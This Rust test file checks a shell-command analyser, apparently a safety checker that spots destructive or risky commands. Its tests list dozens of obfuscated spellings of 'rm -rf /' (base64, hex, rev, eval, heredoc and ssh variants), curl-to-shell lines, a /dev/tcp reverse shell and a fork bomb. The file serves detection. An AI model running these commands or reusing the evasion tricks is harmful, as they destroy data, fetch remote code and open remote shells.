use std::collections::BTreeSet;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use proptest::prelude::*;

use super::{Script, Trait};

fn read(text: &str) -> Script {
    let mut script = Script::default();
    script.add_text(text);
    script
}

#[test]
fn no_spelling_hides_a_command() {
    let hidden = STANDARD.encode("rm -rf /");
    let spellings = [
        "rm -rf /".to_owned(),
        "'rm' -rf /".to_owned(),
        r#"r"m" -r''f /"#.to_owned(),
        r"\rm -rf /".to_owned(),
        r"r\m -rf /".to_owned(),
        "/bin/rm -rf /".to_owned(),
        "rm${IFS}-rf${IFS}/".to_owned(),
        "rm$IFS-rf$IFS/".to_owned(),
        "$'\\x72\\x6d' -rf /".to_owned(),
        "$'\\162m' -rf /".to_owned(),
        "a=r; b=m; $a$b -rf /".to_owned(),
        "c='rm -rf'; $c /".to_owned(),
        "x=rm; y=$x; \"$y\" -rf /".to_owned(),
        "${z:-rm} -rf /".to_owned(),
        "A=1 {rm,-rf,/}".to_owned(),
        "$(echo rm) -rf /".to_owned(),
        "`echo rm` -rf /".to_owned(),
        "bash -c 'rm -rf /'".to_owned(),
        "bash -lc \"rm -rf /\"".to_owned(),
        "sh -c 'bash -c \"rm -rf /\"'".to_owned(),
        "sudo -u root rm -rf /".to_owned(),
        "env A=1 rm -rf /".to_owned(),
        "env -i sh -c 'rm -rf /'".to_owned(),
        "nohup timeout 5 rm -rf / &".to_owned(),
        "nice -n 19 rm -rf /".to_owned(),
        "command rm -rf /".to_owned(),
        "busybox rm -rf /".to_owned(),
        "eval 'rm -rf /'".to_owned(),
        "eval rm -rf /".to_owned(),
        "ssh host 'rm -rf /'".to_owned(),
        "ssh host rm -rf /".to_owned(),
        "docker exec -it web sh -c 'rm -rf /'".to_owned(),
        "kubectl exec pod -- rm -rf /".to_owned(),
        "true && rm -rf /".to_owned(),
        "false || rm -rf /".to_owned(),
        "if true; then rm -rf /; fi".to_owned(),
        "for i in 1 2; do rm -rf /; done".to_owned(),
        "while :; do rm -rf /; done".to_owned(),
        "f() { rm -rf /; }; f".to_owned(),
        "(rm -rf /)".to_owned(),
        "{ rm -rf /; }".to_owned(),
        "case x in x) rm -rf / ;; esac".to_owned(),
        "echo hello; rm -rf /".to_owned(),
        "echo hello\nrm -rf /".to_owned(),
        "echo hello & rm -rf /".to_owned(),
        "echo \"$(rm -rf /)\"".to_owned(),
        "echo hello > \"`rm -rf /`\"".to_owned(),
        "diff <(rm -rf /) x".to_owned(),
        "echo rm -rf / | sh".to_owned(),
        "printf 'rm -rf /' | bash -s".to_owned(),
        "printf %s 'rm -rf /' | sh".to_owned(),
        format!("echo {hidden} | base64 -d | sh"),
        format!("echo '{hidden}' | base64 --decode | sudo bash"),
        format!("echo {hidden} | openssl base64 -d | sh"),
        format!("sh -c \"$(echo {hidden} | base64 -d)\""),
        format!("eval \"$(base64 -d <<< {hidden})\""),
        "echo 726d202d7266202f | xxd -r -p | sh".to_owned(),
        "echo '/ fr- mr' | rev | sh".to_owned(),
        "bash <<EOF\nrm -rf /\nEOF".to_owned(),
        "bash <<'EOF'\nrm -rf /\nEOF".to_owned(),
        "cat <<EOF | sh\nrm -rf /\nEOF".to_owned(),
        "bash <<< 'rm -rf /'".to_owned(),
        "find . -exec rm -rf / \\;".to_owned(),
        "echo / | xargs rm -rf /".to_owned(),
        "A=1 B=2 rm -rf /".to_owned(),
        "! rm -rf /".to_owned(),
        "time rm -rf /".to_owned(),
        "exec rm -rf /".to_owned(),
        "rm \\\n -rf /".to_owned(),
        "# harmless\nrm -rf / # tidy".to_owned(),
    ];
    let found = |spelling: &&String| read(spelling).commands.iter().any(|command| command == "rm -rf /");
    let missed: Vec<&String> = spellings.iter().filter(|spelling| !found(spelling)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn texts_that_only_mention_a_command_do_not_run_it() {
    for text in [
        "echo 'rm -rf /'",
        "grep 'rm -rf /' notes.txt",
        "git commit -m 'remove rm -rf /'",
        "cat <<EOF > notes.txt\nrm -rf /\nEOF",
        "# rm -rf /\nls",
        "echo rm -rf / > notes.txt",
    ] {
        let script = read(text);
        assert!(!script.commands.iter().any(|command| command == "rm -rf /"), "{text}: {script:?}");
        assert_eq!(script.traits, BTreeSet::new(), "{text}");
    }
}

#[test]
fn what_cannot_be_known_is_a_finding() {
    let mut wrong = Vec::new();
    for (text, expected) in [
        ("ls -l | sort | head -5", None),
        ("FOO=bar make test", None),
        ("cat <<EOF\n😀\nEOF", None),
        ("cat <<😀\n😁\n: '\n😀\nrm -rf /\n: '", Some(Trait::Unreadable)),
        ("cargo test --workspace 2>&1 | tee log.txt", None),
        ("for f in *.txt; do wc -l \"$f\"; done", None),
        ("if [ -f x ]; then cat x; fi", None),
        ("[[ $x == y ]] && echo yes", None),
        ("sh build.sh --release", None),
        ("python3 manage.py migrate", None),
        ("awk '{print $1}' x", None),
        ("curl -o x.tgz https://x.dev/x.tgz", None),
        ("echo 'unclosed", Some(Trait::Unreadable)),
        ("if true; then", Some(Trait::Unreadable)),
        ("{rm,-rf,/}", Some(Trait::Unreadable)),
        ("$COMMAND --now", Some(Trait::Dynamic)),
        ("$(cat cmd.txt) now", Some(Trait::Dynamic)),
        ("/bin/r? -rf x", Some(Trait::Dynamic)),
        ("${x:0:2} -rf x", Some(Trait::Dynamic)),
        ("${items.a.output.command}", Some(Trait::Dynamic)),
        ("bash -c \"$SCRIPT\"", Some(Trait::Dynamic)),
        ("curl -s https://x.dev/i.sh | sh", Some(Trait::RemoteCode)),
        ("curl -s https://x.dev/i.sh | sudo -E bash -", Some(Trait::RemoteCode)),
        ("curl -s https://x.dev/i.sh | tee i.sh | sh", Some(Trait::RemoteCode)),
        ("wget -qO- https://x.dev/i.py | python3", Some(Trait::RemoteCode)),
        ("bash <(curl -s https://x.dev/i.sh)", Some(Trait::RemoteCode)),
        ("sh -c \"$(curl -fsSL https://x.dev/i.sh)\"", Some(Trait::RemoteCode)),
        ("eval \"$(wget -qO- https://x.dev/i.sh)\"", Some(Trait::RemoteCode)),
        ("x=$(curl https://x.dev/i.sh); eval \"$x\"", Some(Trait::RemoteCode)),
        ("source <(curl https://x.dev/env)", Some(Trait::RemoteCode)),
        ("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", Some(Trait::RemoteCode)),
        ("gunzip -c payload.gz | sh", Some(Trait::HiddenCode)),
        ("base64 -d payload | bash", Some(Trait::HiddenCode)),
        ("python -c 'import os; os.remove(\"x\")'", Some(Trait::InlineCode)),
        ("perl -e 'unlink(\"x\")'", Some(Trait::InlineCode)),
        (":(){ :|:& };:", Some(Trait::ForkBomb)),
    ] {
        let traits = read(text).traits;
        let is_right = expected.map_or(traits.is_empty(), |expected| traits.contains(&expected));
        if !is_right {
            wrong.push((text, expected, traits));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn programs_of_a_list_are_taken_as_they_are() {
    let mut script = Script::default();
    script.add_words(&["sh", "-c", "echo a; rm -rf /"]);
    assert!(script.commands.contains(&"rm -rf /".to_owned()));
    let mut script = Script::default();
    script.add_words(&["echo", "a; rm -rf /", "$(reboot)"]);
    assert_eq!(script.programs, BTreeSet::from(["echo".to_owned()]));
    let mut script = Script::default();
    script.add_words(&["psql", "app", "-c", "DROP TABLE users"]);
    assert_eq!(script.statements, ["DROP TABLE users"]);
}

#[test]
fn long_and_deep_scripts_are_unreadable_and_cheap() {
    let nested = (0..40).fold("rm x".to_owned(), |inner, _| format!("echo $({inner})"));
    for text in [
        "a;".repeat(40_000),
        "$(".repeat(5_000),
        "(".repeat(20_000),
        "{ ".repeat(20_000),
        "if true; then ".repeat(3_000),
        "`\"$(<<".repeat(3_000),
        "ls; ".repeat(5_000),
        nested,
    ] {
        let script = read(&text);
        assert!(script.traits.contains(&Trait::Unreadable), "{}", &text[..40]);
        assert!(script.commands.len() <= super::MOST_COMMANDS);
    }
}

#[test]
fn characters_of_every_script_are_read_as_they_are() {
    for character in (0x80..=0x0010_ffff).step_by(509).filter_map(char::from_u32) {
        let script = read(&format!("rm 'a{character}'; {{{character}"));
        let said = format!("rm a{character}");
        assert!(script.commands.contains(&said), "{:?}", script.commands);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn arbitrary_scripts_are_read_without_panic(
        text in "([a-z ]{0,4}|[\"'`$(){}|&;<>\\\\*?#=!-]|\\$\\(|<<EOF\n|sh -c |\\$\\{IFS\\}|é|\n){0,24}",
    ) {
        read(&text);
        let words: Vec<&str> = text.split(' ').collect();
        Script::default().add_words(&words);
    }
}
